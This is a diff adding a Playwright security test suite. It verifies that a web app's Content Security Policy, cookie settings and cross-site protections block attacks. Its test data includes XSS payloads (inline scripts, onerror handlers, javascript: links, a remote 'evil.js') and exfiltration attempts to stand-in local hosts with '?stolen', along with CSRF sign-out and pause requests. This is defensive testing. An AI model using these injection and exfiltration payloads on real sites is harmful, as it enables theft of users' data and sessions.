@@ -1,0 +1,213 @@
+import { expect, type Page } from '@playwright/test'
+import { signIn } from './consent.ts'
+import { test as base } from './fixtures.ts'
+import { type ForeignSite, startForeignSite } from './foreign-site.ts'
+
+const scopes = ['user-read-playback-state']
+
+const test = base.extend<{ openForeignSite: (page: string) => Promise<ForeignSite> }>({
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures needed from this pattern.
+  openForeignSite: async ({}, use) => {
+    const sites: ForeignSite[] = []
+    await use(async (page) => {
+      const site = await startForeignSite(page)
+      sites.push(site)
+      return site
+    })
+    for (const site of sites) await site.stop()
+  },
+})
+
+/** What the browser refuses in this page from its beginning, by the directive that forbids it. */
+async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
+  await page.addInitScript(() => {
+    const refused: string[] = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
+    Object.assign(window, { refused })
+  })
+  return () => page.evaluate(() => (window as unknown as { refused: string[] }).refused)
+}
+
+/** The start page with this in it, as if we had let somebody write into our HTML; the headers are ours. */
+async function openWith(page: Page, markup: string): Promise<void> {
+  await page.route('/', async (route) => {
+    const response = await route.fetch()
+    const body = (await response.text()).replace('</body>', `${markup}</body>`)
+    await route.fulfill({ response, body })
+  })
+  await page.goto('/')
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+}
+
+const isRun = (page: Page) => page.evaluate(() => 'isRun' in window)
+
+const code = 'window.isRun = true'
+const planted: [what: string, directive: string, markup: string][] = [
+  ['a script', 'script-src-elem', `<script>${code}</script>`],
+  ['a script of another site', 'script-src-elem', '<script src="http://localhost:1/evil.js"></script>'],
+  ['a script as data', 'script-src-elem', `<script src="data:text/javascript,${code}"></script>`],
+  ['a handler', 'script-src-attr', `<img src="/nothing.png" alt="" onerror="${code}">`],
+  ['a style', 'style-src-elem', '<style>body { display: none }</style>'],
+  ['a style attribute', 'style-src-attr', '<p style="position: fixed">Over all</p>'],
+  ['a picture that tells another site', 'img-src', '<img alt="" src="http://127.0.0.1:1/?stolen">'],
+  ['a frame', 'frame-src', '<iframe title="Elsewhere" src="http://localhost:1/"></iframe>'],
+  ['an object', 'object-src', '<object type="text/html" data="http://localhost:1/"></object>'],
+  ['another base', 'base-uri', '<base href="http://localhost:1/">'],
+]
+
+test.describe('what was injected into a page', () => {
+  for (const [what, directive, markup] of planted)
+    test(`${what} does nothing, and the browser says why`, async ({ page, simulator: _ }) => {
+      const refused = await watchViolations(page)
+      await openWith(page, markup)
+      await expect.poll(refused).toContain(directive)
+      expect(await isRun(page)).toBe(false)
+    })
+
+  test('an address that is code does nothing when it is followed', async ({ page, simulator: _ }) => {
+    const refused = await watchViolations(page)
+    await openWith(page, `<a href="javascript:${code}">Planted</a>`)
+    await page.getByRole('link', { name: 'Planted' }).click()
+    await expect.poll(refused).toContain('script-src-elem')
+    expect(await isRun(page)).toBe(false)
+  })
+
+  test('text becomes neither markup nor code', async ({ page, simulator: _ }) => {
+    await page.goto('/')
+    const attempts = await page.evaluate(async (code) => {
+      const sinks: Record<string, () => unknown> = {
+        markup: () => {
+          document.body.innerHTML = `<img src="x" onerror="${code}">`
+        },
+        handler: () => document.body.setAttribute('onclick', code),
+        script: () => document.createElement('script').setAttribute('src', '/theme.js'),
+        // biome-ignore lint/security/noGlobalEval: it is what must fail.
+        evaluation: () => window.eval(code),
+        function: () => new Function(code)(),
+        document: () => document.write(`<p>${code}</p>`),
+      }
+      // In a task of the page’s own: whoever drives the browser may evaluate all they like.
+      await new Promise((resolve) => setTimeout(resolve))
+      const outcome = (sink: () => unknown) => {
+        try {
+          sink()
+          return 'let in'
+        } catch (error) {
+          return (error as Error).name
+        }
+      }
+      return Object.fromEntries(Object.entries(sinks).map(([name, sink]) => [name, outcome(sink)]))
+    }, code)
+    expect(attempts).toEqual({
+      ...{ markup: 'TypeError', handler: 'TypeError', script: 'TypeError', document: 'TypeError' },
+      ...{ evaluation: 'EvalError', function: 'EvalError' },
+    })
+    expect(await isRun(page)).toBe(false)
+  })
+
+  test('nothing can be sent elsewhere, and a form goes nowhere else', async ({
+    page,
+    openForeignSite,
+    simulator: _,
+  }) => {
+    const site = await openForeignSite('<h1>Elsewhere</h1>')
+    const refused = await watchViolations(page)
+    await page.goto('/')
+    const sent = await page.evaluate(
+      (origin) =>
+        fetch(`${origin}/?stolen`, { mode: 'no-cors' }).then(
+          () => true,
+          () => false,
+        ),
+      site.origin,
+    )
+    expect(sent).toBe(false)
+    await page.evaluate((action) => {
+      const form = Object.assign(document.createElement('form'), { action, method: 'post' })
+      document.body.append(form)
+      form.submit()
+    }, site.origin)
+    await expect.poll(refused).toEqual(['connect-src', 'form-action'])
+  })
+})
+
+test.describe('somebody else’s site', () => {
+  test('can’t show the deck in a frame', async ({ page, deck, openForeignSite, simulator: _ }) => {
+    const site = await openForeignSite(`<iframe src="${deck.origin}/account" title="A deck"></iframe>`)
+    const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
+    await page.goto(site.origin)
+    await refused
+    expect(page.frames().map((frame) => frame.url())).not.toContain(`${deck.origin}/account`)
+  })
+
+  test('can’t read, change or sign out, in the browser of somebody signed in', async ({
+    page,
+    deck,
+    openForeignSite,
+    simulator,
+  }) => {
+    await signIn(page, 'ada', scopes)
+    const site = await openForeignSite('<h1>Elsewhere</h1>')
+    const elsewhere = await page.context().newPage()
+    await elsewhere.goto(site.origin)
+    const outcomes = await elsewhere.evaluate(async (deck) => {
+      const attempt = (path: string, options: RequestInit) =>
+        fetch(deck + path, { credentials: 'include', ...options }).then(
+          (response) => response.type,
+          () => 'refused',
+        )
+      return Promise.all([
+        attempt('/api/session', {}),
+        attempt('/api/session', { mode: 'no-cors' }),
+        attempt('/auth/sign-out', { method: 'POST', headers: { 'x-csrf': '1' } }),
+        attempt('/auth/sign-out', { method: 'POST', mode: 'no-cors' }),
+        attempt('/api/spotify/v1/me/player/pause', { method: 'PUT', headers: { 'x-csrf': '1' } }),
+      ])
+    }, deck.origin)
+    // `opaque` is a refusal that the site may not even read.
+    expect(outcomes.filter((outcome) => outcome !== 'refused' && outcome !== 'opaque')).toEqual([])
+    expect(await simulator.requests('/v1/me/player/pause')).toEqual([])
+
+    const answer = elsewhere.waitForResponse(`${deck.origin}/auth/sign-out`)
+    await elsewhere.evaluate((deck) => {
+      const form = Object.assign(document.createElement('form'), { action: `${deck}/auth/sign-out`, method: 'post' })
+      document.body.append(form)
+      form.submit()
+    }, deck.origin)
+    expect((await answer).status()).toBe(403)
+    await page.goto('/account')
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    expect((await page.evaluate(() => fetch('/api/session').then((answer) => answer.json()))).authenticated).toBe(true)
+  })
+
+  test('that opened the deck, or was opened by it, has no hold of its window', async ({
+    page,
+    deck,
+    openForeignSite,
+    simulator: _,
+  }) => {
+    const site = await openForeignSite(`<button onclick="deck = window.open('${deck.origin}/')">Open</button>`)
+    await page.goto(site.origin)
+    const opened = page.waitForEvent('popup')
+    await page.getByRole('button', { name: 'Open' }).click()
+    const popup = await opened
+    await expect(popup.getByRole('heading', { level: 1 })).toBeVisible()
+    expect(await popup.evaluate(() => window.opener)).toBe(null)
+    await expect.poll(() => page.evaluate(() => (window as unknown as { deck: Window }).deck.closed)).toBe(true)
+  })
+})
+
+test('the session is out of reach of scripts, and the page is built of files alone', async ({
+  page,
+  context,
+  request,
+  simulator: _,
+}) => {
+  await signIn(page, 'ada', scopes)
+  const session = (await context.cookies()).find(({ name }) => name === 'session')
+  expect(session).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' })
+  expect(await page.evaluate(() => document.cookie)).toBe('')
+  const html = await (await request.get('/', { headers: { accept: 'text/html' } })).text()
+  expect(html).toMatch(/<script [^>]*src=/)
+  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)|<style|\son\w+=|\sstyle=|javascript:/i)
+})
